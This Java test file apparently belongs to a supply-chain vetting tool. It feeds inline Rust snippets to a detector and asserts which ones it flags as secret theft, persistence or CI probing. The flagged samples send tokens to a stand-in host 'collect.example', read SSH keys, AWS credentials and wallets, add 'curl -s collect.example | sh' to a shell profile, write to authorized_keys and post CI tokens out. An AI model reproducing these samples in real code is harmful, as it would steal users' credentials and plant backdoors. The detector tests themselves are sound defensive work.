package lazaret.vetting.inspect;

import static lazaret.vetting.inspect.InspectionFixture.demo;
import static lazaret.vetting.inspect.InspectionFixture.inspect;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.Set;
import java.util.stream.Collectors;
import lazaret.testkit.CrateBuilder;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Libraries that act at the request of their caller, and libraries that do the same unasked. All
/// sources are inert and never compiled.
final class OptInBehaviorTest {
  private static final String HEAD =
      "use std::{env, fs, io::{Read, Write}, path::{Path, PathBuf}};\n";

  /// A client that sends the token of its user to the host of its caller.
  private static final String CLIENT =
      HEAD
          + """
          pub struct Client { base: String, token: Option<String> }
          impl Client {
              pub fn new(base: &str) -> Client { Client { base: base.to_owned(), token: None } }
              fn token(&self) -> Option<String> {
                  if let Some(t) = &self.token { return Some(t.clone()); }
                  if let Ok(t) = env::var("API_KEY") { return Some(t); }
                  if let Ok(t) = env::var("ACCESS_TOKEN") { return Some(t); }
                  let all = fs::read_to_string(dirs::home_dir()?.join(".config/gh/hosts")).ok()?;
                  all.lines().find_map(|l| l.strip_prefix(&self.base)).map(str::to_owned)
              }
              pub fn get(&self, path: &str) -> Answer {
                  let url = format!("{}/{}", self.base, path);
                  let req = ureq::get(&url).set("Authorization", &format!("Bearer {}", self.token().unwrap()));
                  req.call()
              }
          }
          """;

  @ParameterizedTest
  @ValueSource(
      strings = {
        ".config/gh/hosts",
        ".netrc",
        ".kube/config",
        ".docker/config",
        ".vault-token",
        ".cargo/credentials",
        ".azure/token",
      })
  void aTokenForTheHostOfTheCallerIsNoTheft(String store) {
    assertThat(strong(CLIENT.replace(".config/gh/hosts", store))).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\"https://api.collect.example/v1\"",
        "\"collect.example:443\"",
        "\"collect.example\"",
        "concat!(\"https://\", \"collect\", \".\", \"example\")",
        "[\"collect\", \"example\"].join(\".\")",
        "\"10.20.30.40:8080\"",
        "format!(\"https://{}.collect.example/\", name)",
        "\"collect.sh\"",
        "\"collector:8080\"",
        "HOSTS.iter().map(|b| (b ^ 7) as char).collect::<String>()",
      })
  void aTokenForAHostOfTheCrateIsOne(String host) {
    String two =
        "\npub fn second(c: &Client) { ureq::post(&"
            + host
            + ").set(\"Authorization\", &c.token().unwrap()); }";
    assertThat(strong(CLIENT + two)).contains("network-and-secrets");
  }

  /// Checks that the client of one service may name its host, and not one that only begins like it.
  @ParameterizedTest
  @CsvSource({"api.github.com, false", "github.com.evil.dev, true", "evil.dev/github, true"})
  void aTokenForAHostThatOnlyBeginsLikeThatOfTheServiceIsATheft(String host, boolean theft) {
    String source =
        HEAD
            + "pub fn star() { let t = env::var(\"GITHUB_TOKEN\").unwrap(); ureq::post(\"https://"
            + host
            + "\").set(\"Authorization\", &t).call(); }";

    assertThat(strong(source).contains("secret-sent")).isEqualTo(theft);
  }

  @Test
  void aHostInAnotherSourceIsOneOfTheCrate() {
    CrateBuilder crate =
        demo()
            .file("src/lib.rs", CLIENT + "mod base;")
            .file("src/base.rs", "pub const BASE: &str = \"collect.example\";");
    assertThat(strong(crate)).contains("network-and-secrets");
    CrateBuilder carried =
        demo()
            .file("src/lib.rs", CLIENT + "const BASE: &str = include_str!(\"base.txt\");")
            .file("src/base.txt", "collect.example\n");
    assertThat(strong(carried)).contains("network-and-secrets");
  }

  @ParameterizedTest
  @ValueSource(strings = {".ssh/id_rsa", ".aws/credentials", "wallet.dat", "logins.json"})
  void whatLiesInStoresOfOthersIsNoTokenOfAClient(String store) {
    assertThat(strong(CLIENT.replace(".config/gh/hosts", store))).contains("network-and-secrets");
  }

  /// A library that installs completions, and a line in the profile at the request of the caller.
  private static final String COMPLETIONS =
      HEAD
          + """
          pub struct Options { pub edit_profile: bool }
          fn profile(shell: &str) -> &'static str { match shell { "bash" => ".bashrc", "zsh" => ".zshrc", _ => "" } }
          fn append(path: &Path) -> std::io::Result<()> {
              let mut f = fs::OpenOptions::new().append(true).create(true).open(path)?;
              writeln!(f, "fpath+=~/.config/demo/completions")
          }
          pub fn install(home: &Path, shell: &str, options: &Options) -> std::io::Result<()> {
              let to = home.join(".config/demo/completions");
              fs::create_dir_all(&to)?;
              fs::write(to.join("_demo"), "complete -W 'a b' demo")?;
              if options.edit_profile { append(&home.join(profile(shell)))?; }
              Ok(())
          }
          """;

  @Test
  void aProfileThatTheCallerWantsWrittenIsNoPersistence() {
    assertThat(strong(COMPLETIONS)).isEmpty();
    assertThat(strong(COMPLETIONS.replace("fpath+=~/", "[ -f ~/.x ] && . ~/"))).isEmpty();
    assertThat(
            strong(
                COMPLETIONS.replace(
                    "if options.edit_profile {", "if !options.edit_profile { return Ok(()); } {")))
        .isEmpty();
    assertThat(
            strong(
                COMPLETIONS.replace(
                    "if options.edit_profile {", "if options.edit_profile && !done(home) {")))
        .isEmpty();
    String rewritten =
        COMPLETIONS.replace(".append(true).create(true).open(path)?", ".write(true).open(path)?");
    assertThat(strong(rewritten)).isEmpty();
    assertThat(
            strong(
                COMPLETIONS
                    .replace("options.edit_profile {", "edit {")
                    .replace("options: &Options", "edit: bool")))
        .isEmpty();
  }

  @Test
  void aProfileThatIsWrittenUnaskedIsPersistence() {
    for (String attack :
        new String[] {
          COMPLETIONS.replace("if options.edit_profile {", "{"),
          COMPLETIONS.replace("if options.edit_profile {", "if !options.edit_profile {"),
          COMPLETIONS.replace("if options.edit_profile {", "if shell.len() > 2 {"),
          COMPLETIONS.replace(
              "if options.edit_profile {", "if options.edit_profile || home.exists() {"),
          COMPLETIONS.replace(
              "if options.edit_profile {", "if home.exists() && !options.edit_profile {"),
          COMPLETIONS.replace("if options.edit_profile {", "if !options.edit_profile { log(); } {"),
          COMPLETIONS + "pub fn more(h: &Path) { append(&h.join(\".zshrc\")); }",
          COMPLETIONS
              + "impl Default for Options { fn default() -> Self { Options { edit_profile: true } } }",
          COMPLETIONS.replace("fpath+=~/.config/demo/completions", "curl -s collect.example | sh"),
          COMPLETIONS.replace("fpath+=~/.config/demo/completions", "alias sudo='demo --x'"),
          COMPLETIONS.replace("fpath+=~/.config/demo/completions", "export PATH=~/.demo:$PATH"),
          COMPLETIONS.replace("fpath+=~/.config/demo/completions", "eval \\\"$(demo run)\\\""),
          COMPLETIONS.replace("fpath+=~/.config/demo/completions", "(demo daemon &)"),
          COMPLETIONS + "pub fn run() { std::process::Command::new(\"demo\").spawn(); }",
          COMPLETIONS + "pub fn get() { ureq::get(u).call(); }",
          COMPLETIONS.replace(".bashrc", ".ssh/authorized_keys"),
        }) {
      assertThat(strong(attack)).as(attack).contains("persistence");
    }
  }

  /// A library that returns the variables of the CI runner to its caller.
  private static final String RUNNER =
      HEAD
          + """
          pub fn repository() -> Option<String> { env::var("GITHUB_REPOSITORY").ok() }
          pub fn run_id() -> Option<String> { env::var("GITHUB_RUN_ID").ok() }
          pub fn running() -> bool { env::var_os("GITHUB_ACTIONS").is_some() }
          pub fn token(audience: &str) -> String {
              let url = env::var("ACTIONS_ID_TOKEN_REQUEST_URL").unwrap();
              let key = env::var("ACTIONS_ID_TOKEN_REQUEST_TOKEN").unwrap();
              ureq::get(&format!("{url}&audience={audience}")).set("Authorization", &format!("bearer {key}")).call().into_string().unwrap()
          }
          """;

  @Test
  void whatARunnerSaysMayBeGivenBack() {
    assertThat(strong(RUNNER)).isEmpty();
    for (String attack :
        new String[] {
          RUNNER
              + "pub fn f() { ureq::post(\"https://collect.example/t\").send_string(&token(\"a\")); }",
          RUNNER
              + "pub fn f() { ureq::post(HOST).send_string(&token(\"a\")); } const HOST: &str = \"collect.example/t\";",
          RUNNER
              + "pub fn f() { std::process::Command::new(\"sh\").arg(\"-c\").arg(token(\"a\")).spawn(); }",
          RUNNER
              + "pub fn f(u: &str) { ureq::post(u).send_json(env::vars().collect::<Vec<_>>()); }",
        }) {
      assertThat(strong(attack)).as(attack).contains("ci-probe-and-run");
    }
  }

  private static Set<String> strong(String source) {
    return strong(demo().file("src/lib.rs", source));
  }

  private static Set<String> strong(CrateBuilder crate) {
    return inspect(crate).signals().stream()
        .filter(signal -> signal.weight() != SignalWeight.NOTE)
        .map(signal -> signal.code().code())
        .collect(Collectors.toSet());
  }
}
